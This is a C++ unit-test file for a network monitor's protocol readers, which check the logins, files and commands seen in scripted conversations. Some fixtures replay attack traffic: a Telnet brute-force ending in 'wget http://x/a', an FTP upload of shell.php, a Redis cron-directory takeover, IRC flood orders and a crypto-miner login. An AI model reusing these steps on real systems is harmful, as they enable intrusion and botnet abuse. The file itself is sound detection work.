// What the readers of text and record protocols find in conversations.
#include <gtest/gtest.h>

#include <string>

#include "message/talk_test.h"

namespace culprit::message {
namespace {

using namespace std::string_literals;

TEST(Readers, SmtpMailsAndLogins) {
  Talk t(25);
  t.server("220 mail.test ESMTP X\r\n").client("EHLO me\r\n").server("250-mail.test\r\n250 AUTH PLAIN\r\n");
  t.client("AUTH PLAIN AG1lAHB3\r\n").server("535 no\r\n");
  t.client("AUTH LOGIN\r\n")
      .server("334 VXNlcm5hbWU6\r\n")
      .client("bWU=\r\n")
      .server("334 UGFz\r\n")
      .client("c2VjcmV0\r\n");
  t.server("235 ok\r\n")
      .client("MAIL FROM:<a@x.test> SIZE=1\r\nRCPT TO:<b@y.test>\r\nRCPT TO:<c@y.test>\r\nDATA\r\n");
  t.server("250 ok\r\n250 ok\r\n550 no\r\n354 go\r\n")
      .client("Subject: MAIL FROM:<z@z.test>\r\n\r\nRCPT TO:<q@q.test>\r\n.\r\n");
  t.server("250 queued\r\n").client("MAIL FROM:<>\r\n").server("452 full\r\n");
  EXPECT_EQ(t.heard.content, "smtp");
  EXPECT_EQ(t.heard.notes,
            "software(mail.test ESMTP X 1) login(me) login-refused(me 535) login() login-accepted(me 235) "
            "recipient(b@y.test 250) "
            "recipient(c@y.test 550) mail(a@x.test 250) mail( 452) ");
}

TEST(Readers, SmtpStopsWhereEncryptionBegins) {
  Talk t(587);
  t.server("220 x\r\n")
      .client("EHLO me\r\n")
      .server("250 STARTTLS\r\n")
      .client("STARTTLS\r\n")
      .server("220 go\r\n");
  EXPECT_FALSE(t.interested());
}

TEST(Readers, Pop3Logins) {
  Talk t(110);
  t.server("+OK ready\r\n")
      .client("USER me\r\n")
      .server("+OK\r\n")
      .client("PASS x\r\n")
      .server("-ERR no\r\n");
  t.client("PASS y\r\n").server("+OK in\r\n");
  EXPECT_EQ(t.heard.notes, "software(ready 1) login(me) login-refused(me) login(me) login-accepted(me) ");
  EXPECT_FALSE(t.interested());
}

TEST(Readers, ImapLogins) {
  Talk t(143);
  t.server("* OK ready\r\n").client("a1 LOGIN \"me\" pw\r\n").server("a1 NO wrong\r\n");
  t.client("a2 LOGIN {2}\r\n")
      .server("+ go\r\n")
      .client("me {2}\r\n")
      .server("+ go\r\n")
      .client("pw\r\n")
      .server("a2 OK in\r\n");
  EXPECT_EQ(t.heard.notes,
            "software(ready 1) login(me) login-refused(me) login(me {2}) login-accepted(me {2}) ");
}

TEST(Readers, FtpLoginsAndChanges) {
  Talk t(21);
  t.server("220 FTP\r\n")
      .client("USER me\r\n")
      .server("331 pw\r\n")
      .client("PASS secret\r\n")
      .server("530 no\r\n");
  t.client("PASS x\r\n")
      .server("230 in\r\n")
      .client("STOR shell.php\r\n")
      .server("150 go\r\n")
      .server("226 done\r\n");
  t.client("RETR a.txt\r\n").server("550 none\r\n").client("DELE gone.php\r\n").server("550 none\r\n");
  EXPECT_EQ(t.heard.notes,
            "software(FTP 1) login(me) login-refused(me 530) login(me) login-accepted(me 230) file(a.txt) ");
  ASSERT_EQ(t.heard.messages.size(), 2u);
  EXPECT_EQ(t.heard.messages[0].method, "STOR");
  EXPECT_EQ(t.heard.messages[0].path, "shell.php");
  EXPECT_EQ(t.heard.messages[0].host, "me");
  EXPECT_EQ(t.heard.messages[0].status, 226);
  EXPECT_EQ(t.heard.messages[1].status, 550);
  for (const Message& m : t.heard.messages) EXPECT_EQ(m.line.find("secret"), std::string::npos);
}

TEST(Readers, TelnetLinesButNoPasswords) {
  Talk t(23);
  t.server("\xff\xfd\x18\xff\xfa\x18\x01\xff\xf0router login: ")
      .client(
          "\xff\xfb\x18"
          "admi");
  t.client("n\r\n")
      .server("admin\r\nPassword: ")
      .client("secret\r\n")
      .server("\r\nLogin incorrect\r\nlogin: ");
  t.client("root\r\n")
      .server("Password: ")
      .client("vizxv\r\n")
      .server("\r\nBusyBox v1\r\n# ")
      .client("wgeX\x7ft http://x/a\r\n");
  EXPECT_EQ(t.heard.notes, "login(admin) login-refused(admin) login(root) login-accepted(root) ");
  ASSERT_EQ(t.heard.messages.size(), 1u);
  EXPECT_EQ(t.heard.messages[0].line, "wget http://x/a");
  EXPECT_EQ(t.heard.messages[0].host, "root");
}

TEST(Readers, IrcSpeaksJoinsAndTopics) {
  Talk t(6667);
  t.client("NICK bot1\r\nUSER b 0 * :b\r\n").server(":irc.test 001 bot1 :hi\r\n").client("JOIN #x key\r\n");
  t.server(":irc.test 332 bot1 #x :.udp 192.0.2.9 80 60\r\n:boss!b@c PRIVMSG #x :!flood 192.0.2.9\r\n");
  EXPECT_EQ(t.heard.notes, "login(bot1) login-accepted( 1) ");
  ASSERT_EQ(t.heard.messages.size(), 3u);
  EXPECT_EQ(t.heard.messages[1].method, "TOPIC");
  EXPECT_EQ(t.heard.messages[1].path, "#x");
  EXPECT_EQ(t.heard.messages[1].fields.front().value, ".udp 192.0.2.9 80 60");
  EXPECT_EQ(t.heard.messages[2].host, "boss!b@c");
}

TEST(Readers, SshPrograms) {
  Talk t(22);
  t.server("SSH-2.0-OpenSSH_9.2\r\n").client("SSH-2.0-libssh_0.9\r\n");
  EXPECT_EQ(t.heard.notes, "software(SSH-2.0-OpenSSH_9.2 1) software(SSH-2.0-libssh_0.9) ");
  EXPECT_FALSE(t.interested());
}

std::string wide(std::string_view text) {
  std::string out;
  for (const char c : text) out += std::string(1, c) + '\0';
  return out;
}
std::string le16(size_t n) { return {static_cast<char>(n & 255), static_cast<char>(n >> 8)}; }
std::string le32(size_t n) { return le16(n & 0xffff) + le16(n >> 16); }
std::string be16(size_t n) { return {static_cast<char>(n >> 8), static_cast<char>(n & 255)}; }
std::string be32(size_t n) { return be16(n >> 16) + be16(n & 0xffff); }

std::string smb2(uint16_t command, uint32_t status, const std::string& body) {
  std::string head = "\xfeSMB\x40\0\0\0"s + le32(status) + le16(command) + std::string(50, '\0');
  return be32(head.size() + body.size()) + head + body;
}

TEST(Readers, SmbLoginsAndShares) {
  const std::string ntlm = "NTLMSSP\0\3\0\0\0"s + std::string(16, '\0') + le16(8) + le16(8) + le32(64) +
                           le16(4) + le16(4) + le32(72) + std::string(20, '\0') + wide("WORK") + wide("me");
  Talk t(445);
  t.client(smb2(1, 0, ntlm)).server(smb2(1, 0xc000006d, "")).client(smb2(1, 0, ntlm)).server(smb2(1, 0, ""));
  const std::string path = wide("\\\\srv\\C$");
  t.client(smb2(3, 0, le16(9) + le16(0) + le16(72) + le16(path.size()) + path));
  EXPECT_EQ(t.heard.notes,
            "login(WORK\\me) login-refused(WORK\\me 3221225581) login(WORK\\me) login-accepted(WORK\\me) "
            "file(\\\\srv\\C$) ");
}

TEST(Readers, RdpCookie) {
  const std::string cookie = "Cookie: mstshash=admin\r\n\1\0\x08\0\3\0\0\0"s;
  const std::string request =
      "\3\0"s + be16(11 + cookie.size()) + static_cast<char>(6 + cookie.size()) + "\xe0\0\0\0\0\0"s + cookie;
  EXPECT_EQ(Talk(3389).client(request).heard.notes, "login(admin) ");
}

TEST(Readers, DatabaseLogins) {
  Talk my(3306);
  const std::string greeting =
      "\x0a"
      "8.0.36\0salt"s;
  const std::string response = le32(0xa685) + le32(1 << 24) + std::string(24, '\0') + "me\0proof"s;
  my.server(le32(greeting.size()) + greeting).client(le32(response.size() | 1 << 24) + response);
  my.server(le32(9 | 2 << 24) + "\xff\x15\x04#28000"s);
  EXPECT_EQ(my.heard.notes, "software(8.0.36 1) login(me) login-refused(me 1045) ");

  Talk pg(5432);
  pg.client("\0\0\0\x08\4\xd2\x16\x2f"s).server("N").client(be32(17) + "\0\3\0\0user\0me\0\0"s);
  pg.server("R"s + be32(12) + be32(5) + "salt").client("p"s + be32(8) + "hash");
  pg.server("E"s + be32(26) + "SFATAL\0C28P01\0Mwrong\0\0"s);
  EXPECT_EQ(pg.heard.notes, "login(me) login-refused(me 28) ");

  Talk ms(1433);
  const std::string login = le32(100) + std::string(36, '\0') + le16(50) + le16(2) + std::string(6, '\0') +
                            wide("sa") + std::string(46, '\0');
  ms.client("\x10\1"s + be16(login.size() + 8) + "\0\0\1\0"s + login);
  ms.server("\4\1"s + be16(16) + "\0\0\1\0"s + "\xaa\4\0"s + le32(18456) + "x");
  EXPECT_EQ(ms.heard.notes, "login(sa) login-refused(sa 18456) ");
}

TEST(Readers, RedisTakenOver) {
  Talk t(6379);
  t.client("*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n").server("-ERR invalid password\r\n");
  t.client("*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n").server("+OK\r\n");
  t.client("*2\r\n$3\r\nGET\r\n$1\r\na\r\n");
  EXPECT_EQ(t.heard.notes, "login() login-refused() ");
  ASSERT_EQ(t.heard.messages.size(), 1u);
  EXPECT_EQ(t.heard.messages[0].line, "CONFIG SET dir /var/spool/cron");
}

TEST(Readers, LdapLoginsAndSearches) {
  Talk t(1389);
  t.client("\x30\x12\2\1\1\x60\x0d\2\1\3\4\4cn=a\x80\2pw"s).server("\x30\x0c\2\1\1\x61\7\x0a\1\x31\4\0\4\0"s);
  t.client(
      "\x30\x0b\2\1\2\x63\6\4\1"
      "a\x0a\1\0"s);
  EXPECT_EQ(t.heard.notes, "login(cn=a) login-refused(cn=a 49) file(a) ");
}

TEST(Readers, MqttSocksMiningVnc) {
  Talk mqtt(1883);
  mqtt.client("\x10\x16\0\4MQTT\4\xc2\0\x3c\0\2id\0\2me\0\2pw"s).server("\x20\2\0\5"s);
  EXPECT_EQ(mqtt.heard.notes, "login(me) login-refused(me 5) ");
  Talk socks(1080);
  socks.client("\5\1\2"s)
      .server("\5\2"s)
      .client("\1\2me\2pw"s)
      .server("\1\0"s)
      .client("\5\1\0\3\6x.test\0\x50"s);
  EXPECT_EQ(socks.heard.notes, "login(me) login-accepted(me) relay(x.test:80) ");
  Talk mining(3333);
  mining.client(
      "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4Wallet\",\"pass\":\"x\","
      "\"agent\":\"XMRig/6\"}}\n");
  EXPECT_EQ(mining.heard.notes, "mining(4Wallet) software(XMRig/6) ");
  Talk vnc(5900);
  vnc.server("RFB 003.008\n")
      .client("RFB 003.008\n")
      .server("\1\2"s)
      .client("\2"s)
      .server(std::string(16, 'c'))
      .client(std::string(16, 'r'));
  vnc.server("\0\0\0\1"s);
  EXPECT_EQ(vnc.heard.notes, "software(RFB 003.008 1) software(RFB 003.008) login() login-refused( 1) ");
}

TEST(Readers, DhcpNamesTheDevice) {
  std::string request(240, '\0');
  request.replace(0, 3, "\1\1\6");
  request.replace(28, 6, "\2\0\x5e\x10\0\1"s);
  request.replace(236, 4, "\x63\x82\x53\x63");
  const std::string ask = request + "\x35\1\3\x0c\6laptop\x3c\x08MSFT 5.0\x32\4\xc0\0\2\x64\xff"s;
  const Heard asked = heard_of(ask, 68, 67);
  EXPECT_EQ(asked.names, "laptop=192.0.2.100(dhcp) laptop=02:00:5e:10:00:01(dhcp) ");
  EXPECT_EQ(asked.notes, "device(MSFT 5.0) ");
  std::string offer = request;
  offer[0] = 2;
  offer.replace(16, 4, "\xc0\0\2\x64"s);
  const Heard offered = heard_of(offer + "\x35\1\2\x36\4\xc0\0\2\1\3\4\xc0\0\2\1\6\4\xc0\0\2\2\xff"s, 67, 68);
  EXPECT_EQ(offered.notes, "lease(router=192.0.2.1 dns=192.0.2.2) ");
}

TEST(Readers, NetbiosNames) {
  const std::string name =
      "\x20"
      "EJFDEBFEEBFACACACACACACACACACAAA\0"s;  // ISATAP<00>
  EXPECT_EQ(heard_of("\1\2\1\x10\0\1\0\0\0\0\0\0"s + name + "\0\x20\0\1"s, 137, 137).notes,
            "question(ISATAP) ");
  const std::string registration =
      "\1\2\x29\x10\0\1\0\0\0\0\0\1"s + name + "\0\x20\0\1\xc0\x0c\0\x20\0\1\0\0\0\0\0\6\0\0\xc0\0\2\7"s;
  EXPECT_EQ(heard_of(registration, 137, 137).names, "ISATAP=192.0.2.7(netbios) ");
  const std::string answer = "\1\2\x85\0\0\0\0\1\0\0\0\0"s + name + "\0\x20\0\1\0\0\0\0\0\6\0\0\xc0\0\2\7"s;
  EXPECT_EQ(heard_of(answer, 137, 137).names, "ISATAP=192.0.2.7(netbios) ");
  const std::string announced = "\x11\x0a\1\2\xc0\0\2\5\0\x8a\0\x22\0\0"s + name;
  EXPECT_EQ(heard_of(announced, 138, 138).names, "ISATAP=192.0.2.5(netbios) ");
}

TEST(Readers, KerberosLogins) {
  const auto tlv = [](uint8_t tag, const std::string& inside) {
    return std::string{static_cast<char>(tag), static_cast<char>(inside.size())} + inside;
  };
  const auto string = [&](const std::string& s) { return tlv(0x1b, s); };
  const auto number = [&](uint8_t n) { return tlv(2, std::string(1, static_cast<char>(n))); };
  const std::string who = tlv(0x30, tlv(0xa0, number(1)) + tlv(0xa1, tlv(0x30, string("me"))));
  const std::string body =
      tlv(0x30, tlv(0xa0, "\3\5\0\0\0\0\0"s) + tlv(0xa1, who) + tlv(0xa2, string("X.TEST")));
  const std::string ask =
      tlv(0x6a, tlv(0x30, tlv(0xa1, number(5)) + tlv(0xa2, number(10)) + tlv(0xa4, body)));
  EXPECT_EQ(heard_of(ask, 40000, 88).notes, "login(me@X.TEST) ");
  const std::string error = tlv(
      0x7e, tlv(0x30, tlv(0xa0, number(5)) + tlv(0xa1, number(30)) + tlv(0xa6, number(24)) + tlv(0xa8, who)));
  EXPECT_EQ(heard_of(error, 88, 40000).notes, "login-refused(me 24) ");
  Talk t(88);
  t.client(be32(ask.size()) + ask).server(be32(error.size()) + error);
  EXPECT_EQ(t.heard.notes, "login(me@X.TEST) login-refused(me 24) ");
}

TEST(Readers, SipRegistrations) {
  const std::string ask =
      "REGISTER sip:x SIP/2.0\r\nTo: <sip:100@x>\r\nCSeq: 1 REGISTER\r\nUser-Agent: friendly-scanner\r\n";
  EXPECT_EQ(heard_of(ask + "\r\n", 5060, 5060).notes, "software(friendly-scanner) ");
  EXPECT_EQ(heard_of(ask + "Authorization: Digest username=\"100\"\r\n\r\n", 5060, 5060).notes,
            "software(friendly-scanner) login(100@x) ");
  EXPECT_EQ(heard_of("SIP/2.0 403 No\r\nt: <sip:100@x>;tag=1\r\nCSeq: 2 REGISTER\r\n\r\n", 5060, 5060).notes,
            "login-refused(100@x 403) ");
}

TEST(Readers, Amplifiers) {
  EXPECT_EQ(heard_of("\x17\0\3\x2a\0\0\0\0"s, 40000, 123).notes, "amplifier(monlist 8) ");
  EXPECT_EQ(heard_of("\0\1\0\0\0\1\0\0stats\r\n"s, 40000, 11211).notes, "amplifier(stats 15) ");
  EXPECT_EQ(heard_of("M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", 40000, 1900).notes,
            "amplifier(ssdp:all 37) ");
  EXPECT_EQ(
      heard_of("M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", 40000, 1900, {}, 0xc0000205, 0xeffffffa).notes,
      "");
  EXPECT_EQ(heard_of("\xff\xff\xff\xffTSource Engine Query\0"s, 40000, 27015).notes, "amplifier(info 25) ");
  EXPECT_EQ(heard_of("\x30\x20\2\1\1\4\6public\xa5\x13\2\1\1"s, 40000, 161).notes, "amplifier(GetBulk 18) ");
}

TEST(Readers, DevicesSayWhatTheyAre) {
  EXPECT_EQ(heard_of("NOTIFY * HTTP/1.1\r\nHost: x\r\nServer: Linux UPnP/1.0 TV/2\r\n\r\n", 1900, 1900).notes,
            "service(Linux UPnP/1.0 TV/2) ");
  EXPECT_EQ(heard_of("\0\1boot.img\0octet\0"s, 40000, 69).notes, "file(boot.img 1) ");
  EXPECT_EQ(heard_of("\1\1\0\x1a"
                     "0123456789012345\1\6user"s,
                     40000, 1812)
                .notes,
            "login(user) ");
}

// Every reader survives every cut, every split and every gap.
TEST(Readers, CutsAndSplits) {
  const std::vector<std::pair<uint16_t, std::string>> openings{
      {25, "EHLO me\r\nMAIL FROM:<a>\r\nDATA\r\nx\r\n.\r\n"},
      {445, smb2(1, 0, "NTLMSSP\0\3\0\0\0"s + std::string(8, '\xff'))},
      {5432, be32(17) + "\0\3\0\0user\0me\0\0p\0\0\0\4"s},
      {389, "\x30\x12\2\1\1\x60\x0d\2\1\3\4\4cn=a\x80\2pw\x30\x84\xff\xff\xff\xff"s},
      {1883, "\x10\x16\0\4MQTT\4\xc2\0\x3c\0\2id\0\2me\0\2pw\x30\xff\xff\xff\xff"s},
      {6379, "*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n*99999999999\r\n$-1\r\n"},
  };
  for (const auto& [port, text] : openings) {
    for (size_t cut = 0; cut <= text.size(); ++cut) {
      Talk t(port);
      t.client(text.substr(0, cut)).gap(flow::from_client, 3).client(text.substr(cut));
      Talk split(port);
      for (const char c : text) split.client(std::string(1, c));
      Talk whole(port);
      whole.client(text);
      EXPECT_EQ(split.heard.notes, whole.heard.notes) << port;
    }
  }
}

}  // namespace
}  // namespace culprit::message
